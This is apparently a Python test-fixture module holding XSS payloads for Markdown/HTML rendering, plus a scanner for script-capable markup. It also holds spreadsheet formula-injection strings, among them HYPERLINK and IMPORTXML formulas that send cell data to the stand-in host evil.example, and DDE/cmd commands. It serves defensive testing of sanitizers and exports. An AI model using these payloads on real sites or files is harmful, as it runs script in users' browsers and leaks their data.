"""Hostile input shared by every test that needs it.

``XSS_PAYLOADS``: Markdown an author (or anyone typing into a field) might use to run script in
another user's browser. ``FORMULA_PAYLOADS``: text a spreadsheet would take as a formula.
Each XSS payload sets ``window.__xss`` (or calls ``alert``) if it ever runs, so a browser test can
render them all and check nothing ran.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

HIT = "window.__xss=1"

XSS_PAYLOADS: tuple[str, ...] = (
    # script tags, plain and disguised
    f"<script>{HIT}</script>",
    f"<SCRIPT>{HIT}</SCRIPT>",
    f"<script src=data:text/javascript,{HIT}></script>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<<script>{HIT}//<</script>",
    f"```html\n</code></pre><script>{HIT}</script>\n```",
    # event handlers
    f'<img src=x onerror="{HIT}">',
    f"<img src=x onerror={HIT}>",
    f'<body onload="{HIT}">',
    f'<div onmouseover="{HIT}">survol</div>',
    f'<input autofocus onfocus="{HIT}">',
    f'<details open ontoggle="{HIT}">',
    f'<video><source onerror="{HIT}"></video>',
    f'<marquee onstart="{HIT}">x</marquee>',
    f'<a href="#" onclick="{HIT}">bấm</a>',
    # javascript:, data:, vbscript: links, in Markdown and in HTML
    f"[bấm vào đây](javascript:{HIT})",
    f"[bấm](JaVaScRiPt:{HIT})",
    f"[bấm](  javascript:{HIT})",
    f"[bấm](jav&#x09;ascript:{HIT})",
    f"[bấm](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{HIT})",
    "[bấm](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
    "[bấm](vbscript:msgbox(1))",
    f"![ảnh](javascript:{HIT})",
    f'<a href="javascript:{HIT}">liên kết</a>',
    f"[ref]: javascript:{HIT}\n\n[liên kết][ref]",
    f"<javascript:{HIT}>",
    # SVG and MathML
    f'<svg onload="{HIT}"></svg>',
    f"<svg><script>{HIT}</script></svg>",
    f'<svg><a xlink:href="javascript:{HIT}"><text x="20" y="20">bấm</text></a></svg>',
    f'<svg><animate onbegin="{HIT}" attributeName="x" dur="1s">',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{HIT}">',
    # raw HTML containers
    f'<iframe src="javascript:{HIT}"></iframe>',
    f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>',
    f'<object data="javascript:{HIT}"></object>',
    f'<embed src="javascript:{HIT}">',
    f'<form action="javascript:{HIT}"><button>gửi</button></form>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{HIT}">',
    f"<style>@import 'javascript:{HIT}';</style>",
    f'<p style="background:url(javascript:{HIT})">kiểu</p>',
    f'<base href="javascript:{HIT}//">',
    f'<link rel="stylesheet" href="javascript:{HIT}">',
    # entity and encoding tricks
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    "<img src=x onerror=&#119;&#105;&#110;&#100;&#111;&#119;.__xss=1>",
    f'<a href="&#x6A;avascript:{HIT}">mã hoá</a>',
    f'<a href="java\nscript:{HIT}">xuống dòng</a>',
    f"<!--><script>{HIT}</script>-->",
    f'<noscript><p title="</noscript><img src=x onerror={HIT}>">',
    f'"><img src=x onerror={HIT}>',
    f"'><svg onload={HIT}>",
    f"{{{{ 7*7 }}}}<script>{HIT}</script>",
    # Markdown attribute lists and headings carrying HTML
    f'# Tiêu đề <img src=x onerror="{HIT}">',
    f'[liên kết](https://example.org "" onmouseover="{HIT}")',
    f'Đoạn văn {{: onclick="{HIT}" }}',
)

EXECUTABLE_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "base",
    "meta",
    "link",
    "style",
    "svg",
    "math",
    "frame",
    "frameset",
    "applet",
    "template",
    "noscript",
}
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "xlink:href",
    "background",
    "poster",
    "srcdoc",
    "srcset",
}
_SAFE_URL = re.compile(r"^(https?:|mailto:|[^:]*$|[^:]*[/?#])", re.I)


class _Scanner(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in EXECUTABLE_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"{tag}[{name}]")
            elif name in URL_ATTRIBUTES and value is not None:
                url = re.sub(r"[\x00-\x20]", "", value)
                if not _SAFE_URL.match(url):
                    self.found.append(f"{tag}[{name}={value[:40]}]")
            elif name == "style":
                self.found.append(f"{tag}[style]")

    handle_startendtag = handle_starttag


def dangerous_fragments(html: str) -> list[str]:
    """Elements and attributes in ``html`` that could run script (empty when safe): parsed as a
    browser would, so text that merely shows ``<script>`` escaped is not counted."""
    scanner = _Scanner()
    scanner.feed(html)
    scanner.close()
    return scanner.found


FORMULA_PAYLOADS: tuple[str, ...] = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML("http://evil.example","//a")',
    "-2+3+cmd|' /C notepad'!'A1'",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "+Nguyễn Văn =1",
)

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def is_formula(cell) -> bool:
    """Would a spreadsheet read this cell value as a formula?"""
    return isinstance(cell, str) and cell.startswith(FORMULA_START)
